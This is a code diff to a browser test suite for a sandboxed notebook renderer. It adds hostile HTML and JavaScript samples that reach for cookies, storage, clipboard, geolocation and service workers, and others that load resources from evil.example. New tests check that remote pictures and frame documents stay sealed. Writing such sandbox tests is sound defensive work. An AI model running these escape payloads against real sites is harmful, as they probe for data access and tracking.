@@ -4,6 +4,7 @@ from __future__ import annotations
 
 import json
 import re
+from base64 import b64decode
 from pathlib import Path
 from typing import Any
 
@@ -57,6 +58,15 @@ HOSTILE = {
     "a cover": "<style>html, body { position: fixed; inset: 0; background: red; z-index: 2147483647 }</style><script>1</script>"
     "<div style='position: fixed; inset: -9999px; background: red'></div>",
     "a dialog on top": "<dialog id=d>over</dialog><script>d.showModal(); document.documentElement.requestFullscreen().catch(() => {})</script>",
+    "what is kept": "<script>for (const act of [() => localStorage, () => sessionStorage, () => indexedDB.open('escaped'), () => document.cookie,"
+    "() => caches.open('x'), () => navigator.serviceWorker.register('/sw.js')]) { try { act()?.catch?.(() => {}); } catch {} }"
+    "try { top.localStorage.escaped = 1 } catch {} document.cookie = 'escaped=1'</script>",
+    "where one is": "<script>navigator.geolocation.getCurrentPosition(() => { top.escaped = 1 }, () => {}); Notification.requestPermission()"
+    ".catch(() => {}); navigator.clipboard?.readText().then(() => { top.escaped = 1 }, () => {})</script>",
+    "other loads": "<link rel=preload as=font href=https://evil.example/f.woff2 crossorigin><link rel=modulepreload href=https://evil.example/m.js>"
+    "<style>@font-face { font-family: f; src: url(https://evil.example/g.woff2) } p { font-family: f }</style><p>x</p>"
+    "<script>const r = new XMLHttpRequest(); r.open('GET', 'https://evil.example/xhr'); r.send();"
+    "import('https://evil.example/m.js').catch(() => {})</script>",
     "peer connections": "<script>try { new RTCPeerConnection() ; top.escaped = 1 } catch {}</script>",
     "a frame of its own making": "<script>const f = document.createElement('iframe'); document.body.append(f);"
     "try { f.contentWindow.parent.parent.escaped = 1 } catch {}</script>",
@@ -211,6 +221,41 @@ class Network(RichCase):
         second.get_by_role("button", name="Forbid it").click()
         expect(self.frame(second).locator("#p")).to_have_text("before")
         expect(second.locator(".wanted")).to_be_visible()
+
+    def test_pictures_from_elsewhere_are_shown_when_asked_for(self) -> None:
+        """A text names the server that a picture is on and loads nothing until it is told to; the setting can say never."""
+        png = b64decode(
+            "iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg=="
+        )
+        asked: list[str] = []
+
+        def answer(route: Any) -> None:
+            asked.append(route.request.url)
+            route.fulfill(content_type="image/png", body=png)
+
+        self.context.route(re.compile(r"^https://\w+\.example\.org/"), answer)
+        session = self.new_session()
+        self.add_cell(
+            session,
+            "![a cat](https://pics.example.org/cat.png) [![b](//pics.example.org/b.png)](https://x.org)",
+            "markdown",
+        )
+        page = self.open(session)
+        place = page.locator(".remote-picture")
+        expect(place).to_have_count(2)
+        expect(place.first).to_contain_text("“a cat” from pics.example.org")
+        expect(page.get_by_role("link", name="b", exact=True)).to_be_visible()
+        self.assertEqual(asked, [])
+        page.keyboard.press("Control+Comma")
+        page.get_by_text("Never", exact=True).click()
+        page.keyboard.press("Escape")
+        expect(place.get_by_role("button")).to_have_count(0)
+        page.keyboard.press("Control+Comma")
+        page.get_by_text("Ask", exact=True).click()
+        page.keyboard.press("Escape")
+        place.first.get_by_role("button", name="Show").click()
+        expect(page.frame_locator("iframe.sealed").first.get_by_role("img")).to_have_js_property("naturalWidth", 1)
+        self.assertEqual(asked[0], "https://pics.example.org/cat.png")
 
     def test_what_is_allowed_is_that_server_alone(self) -> None:
         """Another server stays out of reach."""
@@ -404,6 +449,15 @@ class Escapes(RichCase):
                 assert box is not None
                 self.assertLessEqual(box["height"], 2000)
         self.check(page, asked)
+
+    def test_the_document_of_frames_is_sealed_in_a_tab_too(self) -> None:
+        """Opened by itself it has an origin of its own and reaches nothing."""
+        self.faults_expected = re.compile("^policy: connect-src")  # the stop itself
+        self.sign_in()
+        page = self.new_page()
+        page.goto(f"{self.server.origin}/frame?host=cdn.example.org")
+        self.assertEqual(page.evaluate("self.origin"), "null")
+        self.assertEqual(page.evaluate("fetch('/rpc/openrpc.json').then(() => 'read', () => 'refused')"), "refused")
 
     def test_a_frame_that_navigates_is_taken_away(self) -> None:
         """It is stopped before anything is sent, and replaced by a sentence."""
